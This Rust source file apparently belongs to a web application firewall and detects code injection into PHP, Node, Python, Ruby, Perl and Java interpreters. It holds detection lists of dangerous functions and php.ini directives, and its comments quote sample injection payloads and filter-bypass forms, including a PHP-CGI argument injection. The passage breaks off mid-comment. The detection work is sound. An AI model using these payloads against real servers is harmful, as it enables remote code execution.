//! Code injection into an interpreter: PHP, Node.js, Python, Ruby, Perl and
//! Java (expression languages and deserialisation included), the half of
//! the RCE class that needs no shell. `rce::detect` calls [`detect`] on
//! every field it reads; the shell half stays in `rce.rs`.
//!
//! Two kinds of evidence, judged differently (docs/signatures.md, "Code
//! injection"):
//!
//! - **Names that only attacks write**: functions whose only use is to run
//!   programs, open sockets, read the server's configuration or evaluate
//!   hidden code (`proc_nice(`, `stream_socket_client(`, `posix_setsid(`),
//!   sandbox escapes (`__subclasses__`, `__globals__`), deserialisation
//!   gadgets (`Gem::Installer`, `com.thoughtworks.xstream`), OGNL's
//!   `_memberAccess`, Log4Shell lookups. They are flagged wherever they
//!   are, a Markdown snippet included: no API field carries them by
//!   accident, and an application whose users post such code (a code
//!   review service) exempts that location.
//! - **Everyday library calls** (`require('fs')`, `fs.readFileSync(`,
//!   `process.env`, `pickle.loads(`, `Class.forName(`, `import os`,
//!   `while(true)`): code that forum posts and documentation show in prose
//!   too. They count only where an evaluator would run them: at the start
//!   of the value (after the quotes and brackets that close the
//!   application's own string or call), after a statement end that follows
//!   a string or call (`';`, `);`), after a concatenation to a string
//!   (`'+`, `".`), or inside an interpolation opener (`${`, `#{`, `{{`,
//!   `<%`). "Use `fs.readFileSync` here" or a Markdown fence with
//!   `const fs = require('fs');` after text is not flagged.
//!
//! **One pass.** Every rule starts at a literal anchor: a function or class
//! name, a module's member, a marker (`${`, `data:`, `%x`, `o:`). All
//! anchors (about 830, with the needle lists of `rce.rs`'s shell and exec
//! rules) are compiled once into one deterministic automaton (the
//! `aho-corasick` crate's DFA, stepped here byte by byte), so the window
//! is read once whatever the number of rules; at each anchor found
//! its rule reads a bounded look-around (a name's call parenthesis, a
//! bracket before it, 96 bytes of arguments at most). What a rule would
//! otherwise reread from the value's start (is everything before this
//! position one token? is there a `+`, `;`, `{`, `|` or `&` before it?) is
//! computed once per window and remembered, and the next `)` or `;` that
//! ends an argument list is remembered for the anchors that follow. No
//! parenthesis, dot or `=` is read back to the name before it: the name
//! is found first and reads forward to its call.

use std::cell::Cell;
use std::sync::LazyLock;

use aho_corasick::automaton::Automaton;
use aho_corasick::dfa::DFA;
use aho_corasick::{Anchored, MatchKind, StartKind};

use super::normalize::{trig, Normalized};

pub fn detect(n: &Normalized) -> bool {
    let Some(anchors) = &*ANCHORS else {
        return false;
    };
    serialized_java(n.text) || Window::new(n).scan(anchors)
}

/// Builds the automaton now (at worker start) rather than on the first
/// request that reaches the code-injection rules.
pub fn prepare() {
    LazyLock::force(&ANCHORS);
}

/// What an anchor of [`LISTS`] starts.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Anchor {
    PhpRisky,
    PhpFamily,
    PhpWord,
    AttackName,
    JavaName,
    InCode,
    Superglobal,
    IniDirective,
    Serialized,
    DataUrl,
    XmlShortTag,
    Lookup,
    QuotedExec,
    RubySend,
    PipeOpen,
    SpelType,
    RubyObject,
    NodeRequire,
    PickleGlobal,
    OgnlStatic,
    Prototype,
    Runtime,
    RuntimePayload,
    /// A needle of one of `rce.rs`'s lists, judged there.
    Listed(super::rce::Listed),
}

/// Every anchor, by the rule it starts.
const LISTS: &[(&[&[u8]], Anchor)] = &[
    (PHP_RISKY, Anchor::PhpRisky),
    (PHP_FAMILIES, Anchor::PhpFamily),
    (PHP_WORDS, Anchor::PhpWord),
    (ATTACK_NAMES, Anchor::AttackName),
    (JAVA_NAMES, Anchor::JavaName),
    (IN_CODE, Anchor::InCode),
    (super::rce::SUPERGLOBALS, Anchor::Superglobal),
    (PHP_INI_STRONG, Anchor::IniDirective),
    (&[b"o:", b"c:"], Anchor::Serialized),
    (&[b"data:"], Anchor::DataUrl),
    (&[b"<?xml:"], Anchor::XmlShortTag),
    (&[b"${"], Anchor::Lookup),
    (&[b"%x", b"qx"], Anchor::QuotedExec),
    (&[b"send"], Anchor::RubySend),
    (
        &[b"open(", b"open ", b"read(", b"readlines(", b"foreach("],
        Anchor::PipeOpen,
    ),
    (&[b"t("], Anchor::SpelType),
    (
        &[b"io", b"kernel", b"open3", b"process", b"pty"],
        Anchor::RubyObject,
    ),
    (&[b"require(", b"import("], Anchor::NodeRequire),
    (PICKLE_MODULES, Anchor::PickleGlobal),
    (OGNL_ROOTS, Anchor::OgnlStatic),
    (&[b"constructor"], Anchor::Prototype),
    (&[b"runtime", b"processbuilder"], Anchor::Runtime),
    (
        &[
            b"getproperty",
            b"filewriter",
            b"unmarshaller",
            b"base64data",
        ],
        Anchor::RuntimePayload,
    ),
];

struct Anchors {
    dfa: DFA,
    /// The rule of each pattern, by pattern id.
    rule: Vec<Anchor>,
}

/// Built once per process; `None` only if the automaton could not be
/// built (a test builds it).
static ANCHORS: LazyLock<Option<Anchors>> = LazyLock::new(|| {
    let mut patterns: Vec<&[u8]> = Vec::new();
    let mut rule = Vec::new();
    for (list, anchor) in LISTS {
        for p in *list {
            patterns.push(p);
            rule.push(*anchor);
        }
    }
    for (list, listed) in super::rce::LISTED {
        for p in *list {
            patterns.push(p);
            rule.push(Anchor::Listed(*listed));
        }
    }
    let dfa = DFA::builder()
        .match_kind(MatchKind::Standard)
        .start_kind(StartKind::Unanchored)
        .prefilter(false)
        .byte_classes(true)
        .build(&patterns)
        .ok()?;
    Some(Anchors { dfa, rule })
});

/// One window's scan: the text, and what the rules would otherwise
/// recompute from the value's start at each anchor.
struct Window<'a> {
    n: &'a Normalized<'a>,
    s: &'a [u8],
    /// Length of the identifier run that opens the value.
    lead: Cell<Option<usize>>,
    /// First `+`, `;`, `{`, `|` or `&` (the value's length if none).
    first_sep: Cell<Option<usize>>,
    /// The last answer of [`Window::next_close`]: (from, the first `)` or
    /// `;` at or after it).
    close: Cell<(usize, usize)>,
    runtime: bool,
    runtime_payload: bool,
}

impl<'a> Window<'a> {
    fn new(n: &'a Normalized<'a>) -> Self {
        Window {
            n,
            s: n.text,
            lead: Cell::new(None),
            first_sep: Cell::new(None),
            close: Cell::new((usize::MAX, 0)),
            runtime: false,
            runtime_payload: false,
        }
    }

    /// Steps the automaton over the window once; each anchor it reports is
    /// handed to its rule.
    fn scan(&mut self, anchors: &Anchors) -> bool {
        let dfa = &anchors.dfa;
        let Ok(mut sid) = dfa.start_state(Anchored::No) else {
            return false;
        };
        let s = self.s;
        for (i, &b) in s.iter().enumerate() {
            sid = dfa.next_state(Anchored::No, sid, b);
            if !dfa.is_match(sid) {
                continue;
            }
            for m in 0..dfa.match_len(sid) {
                let pid = dfa.match_pattern(sid, m);
                let at = i + 1 - dfa.pattern_len(pid);
                if self.rule(anchors.rule[pid.as_usize()], &s[at..=i], at) {
                    return true;
                }
            }
        }
        false
    }

    fn rule(&mut self, anchor: Anchor, pat: &[u8], at: usize) -> bool {
        let (s, n) = (self.s, self.n);
        match anchor {
            Anchor::PhpRisky | Anchor::PhpFamily | Anchor::PhpWord => {
                self.php_function(anchor, pat, at)
            }
            Anchor::AttackName => attack_name(s, pat, at),
            Anchor::JavaName | Anchor::XmlShortTag => true,
            Anchor::InCode => self.in_code(pat, at),
            Anchor::Superglobal => php_variable(s, at, at + pat.len()),
            Anchor::IniDirective => ini_assignment(s, pat, at),
            Anchor::Serialized => signed_serialized(s, at),
            Anchor::DataUrl => php_data(s, at),
            Anchor::Lookup => nested_lookup(s, at),
            Anchor::QuotedExec => {
                n.has(
                    trig::PERCENT_AT
                        | trig::BRACE
                        | trig::PAREN
                        | trig::SLASH
                        | trig::PIPE_AMP
                        | trig::LT
                        | trig::HASH_DASH,
                ) && quoted_exec(s, pat, at)
            }
            Anchor::RubySend => n.has(trig::PAREN) && ruby_send(s, at),
            Anchor::PipeOpen => n.has(trig::PAREN) && self.pipe_open(pat, at),
            Anchor::SpelType => spel_type(s, at),
            Anchor::RubyObject => n.has(trig::PAREN) && ruby_process_call(s, pat, at),
            Anchor::NodeRequire => self.node_require(pat, at),
            Anchor::PickleGlobal => pickle_global(s, pat, at),
            Anchor::OgnlStatic => ognl_static(s, pat, at),
            Anchor::Prototype => {
                n.has(trig::BRACE | trig::COLON | trig::QUOTE) && prototype_key(s, at)
            }
            Anchor::Runtime => {
                self.runtime = true;
                self.runtime_payload
            }
            Anchor::RuntimePayload => {
                self.runtime_payload = true;
                self.runtime
            }
            Anchor::Listed(list) => super::rce::listed(n, list, pat, at),
        }
    }

    /// Whether the value opens with an identifier run of at least `len`
    /// bytes (`s[..len]` is one bare token).
    fn one_token(&self, len: usize) -> bool {
        let lead = self.lead.get().unwrap_or_else(|| {
            let l = self
                .s
                .iter()
                .position(|b| !(b.is_ascii_alphanumeric() || *b == b'_'))
                .unwrap_or(self.s.len());
            self.lead.set(Some(l));
            l
        });
        lead >= len
    }

    /// Whether a `+`, `;`, `{`, `|` or `&` comes before `at`.
    fn sep_before(&self, at: usize) -> bool {
        let first = self.first_sep.get().unwrap_or_else(|| {
            let f = self
                .s
                .iter()
                .position(|b| matches!(b, b'+' | b';' | b'{' | b'|' | b'&'))
                .unwrap_or(self.s.len());
            self.first_sep.set(Some(f));
            f
        });
        first < at
    }

    /// The first `)` or `;` at or after `from` (the value's length if
    /// none). Anchors come in order, so one remembered answer serves all
    /// those before it.
    fn next_close(&self, from: usize) -> usize {
        let (memo_from, memo) = self.close.get();
        if memo_from <= from && from <= memo {
            return memo;
        }
        let at = memchr::memchr2(b')', b';', &self.s[from..]).map_or(self.s.len(), |p| from + p);
        self.close.set((from, at));
        at
    }

    /// A PHP function of the lists at `at`: called (`(` after the name,
    /// spaces and a line comment allowed), or alone in brackets and then
    /// called ([`grouped_callee`]). A family's prefix takes the rest of the
    /// name (at most 40 bytes in all).
    fn php_function(&self, anchor: Anchor, pat: &[u8], at: usize) -> bool {
        let s = self.s;
        if !starts_name(s, at) {
            return false;
        }
        let mut end = at + pat.len();
        if anchor == Anchor::PhpFamily {
            let more = s[end..]
                .iter()
                .take(41)
                .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
                .count();
            if more == 0 || pat.len() + more > 40 {
                return false;
            }
            end += more;
        } else if !ends_name(s, end) {
            return false;
        }
        self.php_called(anchor, at, end)
            || (anchor != Anchor::PhpFamily && grouped_callee(s, at, end))
    }

    /// The call of the PHP function named at `at..end`. Methods of other
    /// languages (`.serialize(`, `->exec(`, `::ini_get(`) are not PHP's
    /// functions; the words of [`PHP_WORDS`] count after a breakout only.
    fn php_called(&self, anchor: Anchor, at: usize, end: usize) -> bool {
        let s = self.s;
        let mut k = end;
        while s.get(k) == Some(&b' ') {
            k += 1;
        }
        // `name #comment\n(` or `name //comment\n(`: the call on the next
        // line, the comment at most 64 bytes long.
        if matches!(s.get(k), Some(b'#' | b'/')) {
            let line = &s[k..s.len().min(k + 65)];
            let Some(nl) = memchr::memchr(b'\n', line) else {
                return false;
            };
            k += nl + 1;
            while s.get(k) == Some(&b' ') {
                k += 1;
            }
        }
        if s.get(k) != Some(&b'(') {
            return false;
        }
        let before = at.checked_sub(1).map(|i| s[i]);
        // A `.` after a quote is PHP's concatenation.
        let concatenated = before == Some(b'.') && at >= 2 && matches!(s[at - 2], b'\'' | b'"');
        if matches!(before, Some(b'.' | b'$' | b'>' | b':' | b'\\')) && !concatenated {
            return false;
        }
        anchor != Anchor::PhpWord || self.php_breakout(at)
    }

    /// Whether PHP code at `at` follows a breakout out of a string or
    /// statement: `';`, `";`, one bare token and `;` opening the value
    /// (`1;`), a concatenation (`'.`, `".`), or `${`. A `);` is not
    /// enough for these words: "Print (color); copy (2)" is a label.
    fn php_breakout(&self, at: usize) -> bool {
        let s = self.s;
        let mut k = at;
        while k > 0 && matches!(s[k - 1], b' ' | b'\n' | b'@') {
            k -= 1;
        }
        let mut j = k.saturating_sub(1);
        while j > 0 && s[j - 1] == b' ' {
            j -= 1;
        }
        let quoted = j > 0 && matches!(s[j - 1], b'\'' | b'"' | b'`');
        match k.checked_sub(1).map(|i| s[i]) {
            Some(b';') => quoted || self.one_token(j),
            Some(b'.') => quoted,
            Some(b'{') => k >= 2 && s[k - 2] == b'$',
            _ => false,
        }
    }

    /// Everyday code of [`IN_CODE`] at `at`, in an evaluated position.
    fn in_code(&self, c: &[u8], at: usize) -> bool {
        let s = self.s;
        if !starts_name(s, at) || !self.code_position(at) {
            return false;
        }
        let k = at + c.len();
        match c {
            // A member of the object (`fs.readFileSync(`, `process.env`,
            // `os.getcwd()`), not a sentence's word after a dot.
            b"fs." | b"process." | b"os." => {
                let len = s[k..]
                    .iter()
                    .take(24)
                    .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
                    .count();
                // `process.env.NODE_ENV` is read by every Node program and
                // named in searches and docs: `process.` counts when a call
                // follows in the member chain (`process.kill(`,
                // `process.mainModule.require(`).
                let called = || {
                    s[k..s.len().min(k + 48)]
                        .iter()
                        .take_while(|b| {
                            b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'(')
                        })
                        .any(|&b| b == b'(')
                };
                len > 0
                    && (c != b"os." || s.get(k + len) == Some(&b'('))
                    && (c != b"process." || called() || self.sep_before(at))
            }
            // Loops whose condition is always true.
            b"while(" | b"while (" => always_true(&s[k..s.len().min(k + 48)]),
            // A function literal without parameters and with a body, as
            // serialised functions and injected callbacks are
            // (`function (){..}`); one with parameters is a snippet.
            b"function(" | b"function (" => {
                let mut e = k;
                while s.get(e) == Some(&b' ') {
                    e += 1;
                }
                if s.get(e) != Some(&b')') {
                    return false;
                }
                e += 1;
                while s.get(e) == Some(&b' ') {
                    e += 1;
                }
                s.get(e) == Some(&b'{')
            }
            b"import os" | b"import subprocess" | b"import pty" | b"import socket" => {
                matches!(s.get(k), None | Some(b';' | b'\n' | b',' | b' ' | b'.'))
            }
            _ => true,
        }
    }

    /// Whether code at `at` sits where an evaluator runs it: it opens the
    /// value after at most a few bytes that close the application's string
    /// or call (`'`, `"`, `)`, `;`, `}`), or it follows a statement end
    /// after a string, call or block (`');`), a concatenation to a string
    /// (`'+`, `".`, `'||`), or an interpolation opener (`${`, `#{`, `{{`,
    /// `<%`).
    fn code_position(&self, at: usize) -> bool {
        let s = self.s;
        let head = &s[at.saturating_sub(16)..at];
        let breakout = |b: &u8| {
            matches!(
                b,
                b'\''
                    | b'"'
                    | b'`'
                    | b')'
                    | b']'
                    | b'}'
                    | b';'
                    | b','
                    | b' '
                    | b'\n'
                    | b'@'
                    | b'('
                    | b'+'
                    | b'|'
                    | b'&'
                    | b'.'
            )
        };
        if at <= 16 && head.iter().all(breakout) {
            return true;
        }
        let mut k = at;
        while k > 0 && matches!(s[k - 1], b' ' | b'\n' | b'(' | b'@') {
            k -= 1;
        }
        let quote_before = |j: usize| {
            let mut j = j;
            while j > 0 && s[j - 1] == b' ' {
                j -= 1;
            }
            j > 0 && matches!(s[j - 1], b'\'' | b'"' | b'`' | b')' | b']' | b'}')
        };
        match k.checked_sub(1).map(|i| s[i]) {
            // After a string or call, or after one bare token opening the
            // value (`1;phpinfo()`).
            Some(b';') => {
                let mut m = k - 1;
                while m > 0 && s[m - 1].is_ascii_whitespace() {
                    m -= 1;
                }
                quote_before(k - 1) || self.one_token(m)
            }
            Some(b'+' | b'.' | b',') => quote_before(k - 1),
            Some(b'|' | b'&') => {
                let j = if k >= 2 && s[k - 2] == s[k - 1] {
                    k - 2
                } else {
                    k - 1
                };
                quote_before(j)
            }
            Some(b'{') => k >= 2 && matches!(s[k - 2], b'$' | b'#' | b'{'),
            Some(b'%' | b'=') => {
                let j = if s[k - 1] == b'=' { k - 1 } else { k };
                j >= 2 && s[j - 2] == b'<' && s[j - 1] == b'%'
            }
            _ => false,
        }
    }

    /// Perl's and Ruby's `open` of a pipe: `open(F, "|id")`, `open(F,
    /// "id|")`, `open(my $fh, "-|", "id")`, `Kernel.open("|id")`,
    /// `IO.read("|id")`: the quoted arguments (at most four, within 96
    /// bytes and before the first `)` or `;`).
    fn pipe_open(&self, c: &[u8], at: usize) -> bool {
        let s = self.s;
        if at > 0 && (s[at - 1].is_ascii_alphanumeric() || s[at - 1] == b'_') {
            return false;
        }
        let from = at + c.len();
        let end = self.next_close(from).min(from + 96).min(s.len());
        let mut rest = &s[from..end];
        for _ in 0..4 {
            let Some(q) = memchr::memchr2(b'\'', b'"', rest) else {
                return false;
            };
            let quote = rest[q];
            let Some(len) = memchr::memchr(quote, &rest[q + 1..]) else {
                return false;
            };
            let arg = rest[q + 1..q + 1 + len].trim_ascii();
            let cmd = |t: &[u8]| {
                t.first()
                    .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'/')
            };
            if arg == b"-|" || arg == b"|-" {
                return true;
            }
            if let Some(t) = arg.strip_prefix(b"|") {
                if cmd(t.trim_ascii_start()) {
                    return true;
                }
            }
            if arg.len() > 1 && arg.ends_with(b"|") && cmd(arg) && c == b"open(" {
                return true;
            }
            rest = &rest[q + len + 2..];
        }
        false
    }

    /// `require('fs')` or `import('net')` used at once
    /// (`require('fs').readFileSync(`) or in an evaluated position; `const
    /// fs = require('fs');` after prose is a snippet.
    fn node_require(&self, pat: &[u8], at: usize) -> bool {
        let s = self.s;
        if !starts_name(s, at) {
            return false;
        }
        let mut k = at + pat.len();
        while s.get(k) == Some(&b' ') {
            k += 1;
        }
        let Some(&q) = s.get(k).filter(|b| matches!(b, b'\'' | b'"' | b'`')) else {
            return false;
        };
        let Some(len) = s[k + 1..].iter().take(24).position(|&b| b == q) else {
            return false;
        };
        let module = &s[k + 1..k + 1 + len];
        let module = module.strip_prefix(b"node:").unwrap_or(module);
        if NODE_MODULES.binary_search(&module).is_err() {
            return false;
        }
        let mut e = k + len + 2;
        while s.get(e) == Some(&b' ') {
            e += 1;
        }
        s.get(e) == Some(&b')') && (s.get(e + 1) == Some(&b'.') || self.code_position(at))
    }
}

/// Whether a name ends at `k`: no identifier byte follows.
fn ends_name(s: &[u8], k: usize) -> bool {
    !s.get(k)
        .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
}

/// Whether a name starts at `at`: no identifier byte (or `$`, a variable)
/// precedes.
fn starts_name(s: &[u8], at: usize) -> bool {
    at == 0 || !(s[at - 1].is_ascii_alphanumeric() || matches!(s[at - 1], b'_' | b'$'))
}

/// PHP functions that run programs, open connections, read or change the
/// server's configuration, walk the file system, call back a function named
/// by a string or decode hidden code, with names no prose or other
/// language writes (underscored or PHP's own compounds). Called (`(` after
/// the name, spaces and comments allowed), they are PHP code wherever they
/// are. Sorted (a test checks).
const PHP_RISKY: &[&[u8]] = &[
    b"__halt_compiler",
    b"apache_child_terminate",
    b"apache_get_modules",
    b"apache_getenv",
    b"apache_note",
    b"apache_request_headers",
    b"apache_setenv",
    b"array_filter",
    b"array_map",
    b"array_reduce",
    b"array_walk",
    b"array_walk_recursive",
    b"assert_options",
    b"base64_decode",
    b"bzdecompress",
    b"bzopen",
    b"call_user_func",
    b"call_user_func_array",
    b"call_user_method",
    b"call_user_method_array",
    b"chgrp",
    b"chown",
    b"chroot",
    b"convert_uudecode",
    b"convert_uuencode",
    b"create_function",
    b"curl_exec",
    b"curl_init",
    b"curl_multi_exec",
    b"curl_setopt",
    b"curl_setopt_array",
    b"debug_zval_dump",
    b"disk_free_space",
    b"disk_total_space",
    b"diskfreespace",
    b"dns_get_record",
    b"error_log",
    b"error_reporting",
    b"escapeshellarg",
    b"escapeshellcmd",
    b"exif_read_data",
    b"file_get_contents",
    b"file_put_contents",
    b"filemtime",
    b"fileowner",
    b"fileperms",
    b"forward_static_call",
    b"forward_static_call_array",
    b"fpassthru",
    b"fsockopen",
    b"ftp_connect",
    b"ftp_exec",
    b"ftp_get",
    b"ftp_login",
    b"ftp_put",
    b"func_get_args",
    b"function_exists",
    b"get_cfg_var",
    b"get_class_methods",
    b"get_class_vars",
    b"get_current_user",
    b"get_declared_classes",
    b"get_defined_constants",
    b"get_defined_functions",
    b"get_defined_vars",
    b"get_headers",
    b"get_included_files",
    b"get_loaded_extensions",
    b"get_meta_tags",
    b"get_object_vars",
    b"getallheaders",
    b"getcwd",
    b"getenv",
    b"gethostbyname",
    b"getlastmod",
    b"getmygid",
    b"getmyinode",
    b"getmypid",
    b"getmyuid",
    b"getrusage",
    b"gzcompress",
    b"gzdecode",
    b"gzdeflate",
    b"gzencode",
    b"gzfile",
    b"gzinflate",
    b"gzopen",
    b"gzpassthru",
    b"gzread",
    b"gzuncompress",
    b"header_register_callback",
    b"hex2bin",
    b"highlight_file",
    b"highlight_string",
    b"htmlspecialchars_decode",
    b"igbinary_unserialize",
    b"ignore_user_abort",
    b"imap_mail",
    b"imap_open",
    b"ini_alter",
    b"ini_get",
    b"ini_get_all",
    b"ini_restore",
    b"ini_set",
    b"invokeargs",
    b"is_executable",
    b"is_uploaded_file",
    b"is_writable",
    b"is_writeable",
    b"iterator_apply",
    b"lchgrp",
    b"lchown",
    b"mb_ereg_replace",
    b"mb_send_mail",
    b"md5_file",
    b"move_uploaded_file",
    b"mysql_query",
    b"mysqli_query",
    b"newinstanceargs",
    b"ob_start",
    b"openssl_decrypt",
    b"parse_ini_file",
    b"parse_ini_string",
    b"parse_str",
    b"passthru",
    b"pclose",
    b"pcntl_alarm",
    b"pcntl_exec",
    b"pcntl_fork",
    b"pcntl_signal",
    b"pcntl_waitpid",
    b"pfsockopen",
    b"php_ini_loaded_file",
    b"php_sapi_name",
    b"php_strip_whitespace",
    b"php_uname",
    b"phpcredits",
    b"phpinfo",
    b"phpversion",
    b"posix_access",
    b"posix_getcwd",
    b"posix_getegid",
    b"posix_geteuid",
    b"posix_getgid",
    b"posix_getlogin",
    b"posix_getpwnam",
    b"posix_getpwuid",
    b"posix_getuid",
    b"posix_kill",
    b"posix_mkfifo",
    b"posix_setgid",
    b"posix_setpgid",
    b"posix_setsid",
    b"posix_setuid",
    b"posix_ttyname",
    b"posix_uname",
    b"preg_filter",
    b"preg_replace_callback",
    b"preg_replace_callback_array",
    b"print_r",
    b"proc_close",
    b"proc_get_status",
    b"proc_nice",
    b"proc_open",
    b"proc_terminate",
    b"putenv",
    b"quoted_printable_decode",
    b"readgzfile",
    b"readlink",
    b"reflectionfunction",
    b"reflectionmethod",
    b"register_shutdown_function",
    b"register_tick_function",
    b"session_start",
    b"set_error_handler",
    b"set_exception_handler",
    b"set_include_path",
    b"set_time_limit",
    b"sha1_file",
    b"shell_exec",
    b"show_source",
    b"simplexml_load_file",
    b"simplexml_load_string",
    b"socket_accept",
    b"socket_bind",
    b"socket_connect",
    b"socket_create",
    b"socket_listen",
    b"socket_read",
    b"socket_write",
    b"spl_autoload_register",
    b"ssh2_connect",
    b"ssh2_exec",
    b"ssh2_shell",
    b"str_rot13",
    b"stream_context_create",
    b"stream_get_contents",
    b"stream_socket_client",
    b"stream_socket_server",
    b"stream_wrapper_register",
    b"sys_get_temp_dir",
    b"sys_getloadavg",
    b"tempnam",
    b"tmpfile",
    b"uasort",
    b"uksort",
    b"unserialize",
    b"var_dump",
    b"var_export",
    b"yaml_parse",
    b"zend_version",
    b"zlib_decode",
];

/// Prefixes of PHP's extension functions that run programs, open
/// connections, query databases or read the interpreter's state
/// (`posix_getpwnam(`, `ssh2_exec(`, `wp_remote_get(`, `array_udiff(`
/// with a callback): every function of the family counts.
const PHP_FAMILIES: &[&[u8]] = &[
    b"apache_",
    b"array_diff_u",
    b"array_intersect_u",
    b"array_u",
    b"curl_",
    b"expect_",
    b"ftp_",
    b"get_defined_",
    b"imap_",
    b"ini_",
    b"ldap_",
    b"mb_ereg",
    b"mcrypt_",
    b"mssql_",
    b"mysql_",
    b"mysqli_",
    b"oci_",
    b"odbc_",
    b"pcntl_",
    b"php_",
    b"posix_",
    b"proc_",
    b"session_set_",
    b"socket_",
    b"sqlite_",
    b"ssh2_",
    b"stream_socket_",
    b"wp_remote_",
    b"wp_safe_remote_",
    b"xml_set_",
];

/// PHP functions named like English words or other languages' functions
/// (`system`, `file`, `copy`, `print`): PHP code only after a breakout
/// (`';system (`, `x;exec (ls)`, `'.file(`), see [`Window::php_breakout`]. Sorted.
const PHP_WORDS: &[&[u8]] = &[
    b"assert",
    b"chmod",
    b"chr",
    b"constant",
    b"copy",
    b"define",
    b"echo",
    b"eval",
    b"exec",
    b"extract",
    b"file",
    b"fopen",
    b"fputs",
    b"fwrite",
    b"glob",
    b"header",
    b"include",
    b"link",
    b"mail",
    b"mkdir",
    b"ord",
    b"popen",
    b"print",
    b"printf",
    b"readfile",
    b"rename",
    b"require",
    b"rmdir",
    b"stat",
    b"symlink",
    b"system",
    b"touch",
    b"unlink",
];

/// A PHP function name alone in brackets, then called as a statement:
/// `(system)(ls);`, `[ 'system' ][0]('id');`, `( [ system ][ 0 ]) {0} ( ls );`
/// (the `++` and comment padding of a filter bypass, read as spaces). The
/// call must end the value or a statement: "Attachment (file) (optional)"
/// is a label. The name is `s[at..end]`; at most 16 spaces or quotes on
/// each side of it.
fn grouped_callee(s: &[u8], at: usize, end: usize) -> bool {
    let padding = |b: u8| matches!(b, b' ' | b'\'' | b'"');
    let mut j = at;
    while j > 0 && at - j < 16 && padding(s[j - 1]) {
        j -= 1;
    }
    let Some(open) = j.checked_sub(1).filter(|&o| matches!(s[o], b'(' | b'[')) else {
        return false;
    };
    let mut k = end;
    while k - end < 16 && s.get(k).is_some_and(|&b| padding(b)) {
        k += 1;
    }
    if !matches!(s.get(k), Some(b')' | b']')) {
        return false;
    }
    // The call's parenthesis within 48 bytes, its end, then `;` or the
    // value's end.
    let rest = &s[k + 1..s.len().min(k + 49)];
    let Some(call) = memchr::memchr(b'(', rest) else {
        return false;
    };
    let Some(close) = memchr::memchr(b')', &rest[call..]) else {
        return false;
    };
    let mut e = k + 1 + call + close + 1;
    while s.get(e) == Some(&b' ') {
        e += 1;
    }
    // At the value's end only when glued and in parentheses
    // (`(system)(ls)`): `[link](https://...)` is a Markdown link.
    s.get(e) == Some(&b';') || (s.get(e).is_none() && call == 0 && s[open] == b'(')
}

/// Ruby's process and I/O objects asked to run something, spaces allowed
/// around the dot (`Process.spawn("id")`, `Kernel . exec 'id'`,
/// `Open3.capture3(`, `PTY.spawn(`); the object's name is `obj` at `at`.
fn ruby_process_call(s: &[u8], obj: &[u8], at: usize) -> bool {
    const METHODS: &[&[u8]] = &[
        b"capture2",
        b"capture2e",
        b"capture3",
        b"eval",
        b"exec",
        b"fork",
        b"pipeline",
        b"popen",
        b"popen2",
        b"popen3",
        b"spawn",
        b"syscall",
        b"system",
    ];
    if !starts_name(s, at) {
        return false;
    }
    let mut k = at + obj.len();
    while s.get(k) == Some(&b' ') {
        k += 1;
    }
    if s.get(k) != Some(&b'.') {
        return false;
    }
    k += 1;
    while s.get(k) == Some(&b' ') {
        k += 1;
    }
    let m = s[k..]
        .iter()
        .take(10)
        .take_while(|b| b.is_ascii_alphanumeric())
        .count();
    if m == 0 || !METHODS.contains(&&s[k..k + m]) {
        return false;
    }
    k += m;
    while s.get(k) == Some(&b' ') {
        k += 1;
    }
    matches!(s.get(k), Some(b'(' | b'\'' | b'"' | b'`'))
}

/// A superglobal used as code: followed or preceded by code punctuation
/// (`$_GET['x']`, `print_r($GLOBALS)`, `$_COOKIE;`, `.$_SERVER.`) or the
/// whole value's end. Prose names them too ("`$_GET` is PHP's query array"):
/// a space and a word after it is text.
fn php_variable(s: &[u8], at: usize, end: usize) -> bool {
    if !ends_name(s, end) {
        return false;
    }
    let after = matches!(
        s.get(end),
        None | Some(b'[' | b';' | b')' | b',' | b'-' | b'.' | b'=' | b'}' | b'\'' | b'"')
    );
    let before = at > 0 && matches!(s[at - 1], b'(' | b'.' | b'=' | b'{' | b'@' | b'[' | b',');
    after || before
}

/// php.ini directives that turn off PHP's defences or make it run a file
/// or program of the attacker's, with names nothing else uses. Sorted.
const PHP_INI_STRONG: &[&[u8]] = &[
    b"allow_url_fopen",
    b"allow_url_include",
    b"assert.callback",
    b"auto_append_file",
    b"auto_prepend_file",
    b"cgi.fix_pathinfo",
    b"cgi.force_redirect",
    b"cgi.redirect_status_env",
    b"disable_classes",
    b"disable_functions",
    b"enable_dl",
    b"mail.force_extra_parameters",
    b"open_basedir",
    b"phar.readonly",
    b"phar.require_hash",
    b"register_globals",
    b"safe_mode",
    b"safe_mode_exec_dir",
    b"sendmail_path",
    b"session.save_handler",
    b"session.save_path",
    b"session.serialize_handler",
    b"session.upload_progress.enabled",
    b"unserialize_callback_func",
    b"zend_extension",
];

/// `directive=value` for a [`PHP_INI_STRONG`] directive (`name` at `at`)
/// anywhere in the value, not only as the whole value (`rce.rs`): PHP-CGI's
/// `-d allow_url_include=1 -d auto_prepend_file=php://input`
/// (CVE-2012-1823, CVE-2024-4577), `.user.ini` and `php.ini` lines in a
/// body. No name byte, `.` or `$` before it; spaces, then one `=`.
fn ini_assignment(s: &[u8], name: &[u8], at: usize) -> bool {
    if at > 0 && (s[at - 1].is_ascii_alphanumeric() || matches!(s[at - 1], b'_' | b'.' | b'$')) {
        return false;
    }
    let mut k = at + name.len();
    while s.get(k) == Some(&b' ') {
        k += 1;
    }
    s.get(k) == Some(&b'=') && s.get(k + 1) != Some(&b'=')
}

/// A serialized PHP object whose length carries a sign or a space
/// (`O:+8:"stdClass"`, `C: 11:"ArrayObject"`): PHP's parser accepts both,
/// and they hide the object from a reader of the plain form. `o:` or `c:`
/// at `at`.
fn signed_serialized(s: &[u8], at: usize) -> bool {
    if !starts_name(s, at) {
        return false;
    }
    let colon = at + 1;
    let mut k = colon + 1;
    let mut signed = false;
    while k < colon + 4 && matches!(s.get(k), Some(b'+' | b' ')) {
        k += 1;
        signed = true;
    }
    let digits = s[k.min(s.len())..]
        .iter()
        .take(8)
        .take_while(|b| b.is_ascii_digit())
        .count();
    signed && digits > 0 && s.get(k + digits..k + digits + 2) == Some(b":\"")
}

/// A `data:` URL (at `at`) that PHP's `include` runs: of a PHP media type,
